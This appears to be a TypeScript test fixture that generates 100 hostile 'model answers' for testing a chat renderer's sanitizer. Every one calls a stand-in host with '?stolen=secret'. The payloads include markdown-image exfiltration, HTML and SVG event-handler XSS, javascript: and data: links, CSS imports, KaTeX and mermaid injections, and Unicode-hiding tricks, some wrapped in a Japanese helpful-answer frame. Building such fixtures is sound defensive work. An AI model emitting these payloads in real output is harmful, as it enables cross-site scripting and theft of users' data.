/** Where every payload tries to go; nobody is there, and a request to it is seen before it leaves the browser. */
const away = "http://away.example";

const mark = (index: number) => `${away}/${index}?stolen=secret`;

/** Ways in which a model's answer, written by somebody hostile, tries to reach out or to run. `u` is an address to reach. */
const attempts: ((u: string) => string)[] = [
  (u) => `![image](${u})`,
  (u) => `![image][1]\n\n[1]: ${u} "title"`,
  (u) => `![](<${u}>)`,
  (u) => `![a\nb](${u})`,
  (u) => `[![nested](${u})](${u})`,
  (u) => `| a | b |\n| --- | --- |\n| ![in a table](${u}) | ![](${u}) |`,
  (u) => `> ![in a quote](${u})\n>\n> - ![in a list](${u})`,
  (u) => `Footnote[^1]\n\n[^1]: ![in a footnote](${u})`,
  (u) => `![protocol-relative](${u.replace("http:", "")})`,
  (u) => `![backslash](${u.replace("http://", "http:\\\\")})`,
  (u) => `![entity](&#104;ttp://away.example/${u.length})`,
  (u) => `![upper](${u.replace("http", "HTTP")})`,
  (u) => `![tab](ht\ttp://away.example/x)  ![${u}](${u})`,
  (u) => `<img src="${u}">`,
  (u) => `<img src=x onerror="fetch('${u}')">`,
  (u) => `<picture><source srcset="${u}"><img src="${u}"></picture>`,
  (u) => `<svg onload="fetch('${u}')"><image href="${u}"/></svg>`,
  (u) => `<script src="${u}"></script><script>fetch("${u}")</script>`,
  (u) => `<iframe src="${u}"></iframe><iframe srcdoc="<script>fetch('${u}')</script>"></iframe>`,
  (u) => `<object data="${u}"></object><embed src="${u}">`,
  (u) => `<link rel="stylesheet" href="${u}"><link rel="prefetch" href="${u}"><link rel="preconnect" href="${u}">`,
  (u) => `<style>@import url("${u}"); body{background:url("${u}")}</style>`,
  (u) => `<div style="background:url('${u}')">x</div>`,
  (u) => `<video src="${u}" autoplay></video><audio src="${u}" autoplay></audio><track src="${u}">`,
  (u) => `<meta http-equiv="refresh" content="0;url=${u}"><base href="${u}">`,
  (u) => `<form action="${u}"><button>x</button></form><input type=image src="${u}">`,
  (u) => `<a href="${u}" ping="${u}">x</a><body background="${u}">`,
  (u) => `<math><mtext><img src="${u}"></mtext></math><table background="${u}">`,
  (u) => `<noscript><p title="</noscript><img src=x onerror=fetch('${u}')>">`,
  (u) => `<template><img src="${u}"></template><dialog open><img src="${u}"></dialog>`,
  (u) => `[click](javascript:fetch('${u}'))`,
  (u) => `[click](JaVaScRiPt:fetch('${u}'))`,
  (u) => `[click](java\tscript:fetch('${u}'))`,
  (u) => `[click](&#x6A;avascript:fetch('${u}'))`,
  (u) => `[click](data:text/html,<script>fetch('${u}')</script>)`,
  (u) => `[click](vbscript:fetch("${u}"))`,
  (u) => `<javascript:fetch('${u}')> <data:text/html,x>`,
  (u) => `[click][1]\n\n[1]: javascript:fetch('${u}')`,
  (u) => `[${u}](${u} "onmouseover=fetch('${u}')")`,
  (u) => `$\\href{${u}}{x}$ $\\includegraphics{${u}}$`,
  (u) => `$$\\href{javascript:fetch('${u}')}{x} \\url{${u}}$$`,
  (u) => `$\\htmlStyle{background:url(${u})}{x}$ $\\htmlData{x=${u}}{y}$`,
  () => `$$\\def\\a{\\a\\a}\\a$$ $${"{".repeat(500)}$$`,
  (u) => "```mermaid\ngraph TD\n A[\"<img src='" + u + "'>\"] --> B\n click A \"" + u + "\"\n```",
  (u) => "```mermaid\ngraph TD\n A --> B\n click A href \"javascript:fetch('" + u + "')\"\n style A fill:url(" + u + ")\n```",
  (u) => "```mermaid\n%%{init: {\"themeCSS\": \"@import url(" + u + ")\", \"securityLevel\": \"loose\"}}%%\ngraph TD\n A[\"<script>fetch('" + u + "')</script>\"]\n```",
  (u) => "```html\n<img src=\"" + u + "\" onerror=\"fetch('" + u + "')\">\n```",
  (u) => "```" + u + " onload=x\nfetch('" + u + "')\n```",
  (u) => "`<img src=" + u + ">` and ``` ![x](" + u + ") ```",
  (u) => `\u202E![rtl](${u})\u202C \u200B![zero width](${u})\u200B ![\u{1F600}](${u})`,
];

/** 100 answers: every attempt alone, and again inside what a helpful answer looks like. */
export const hostileAnswers: string[] = [0, 1].flatMap((round) =>
  attempts.map((attempt, index) => {
    const text = attempt(mark(round * attempts.length + index));
    return round === 0 ? text : `こちらが回答です。\n\n1. 手順\n\n${text}\n\n**以上**です。${text}\n`;
  }),
);
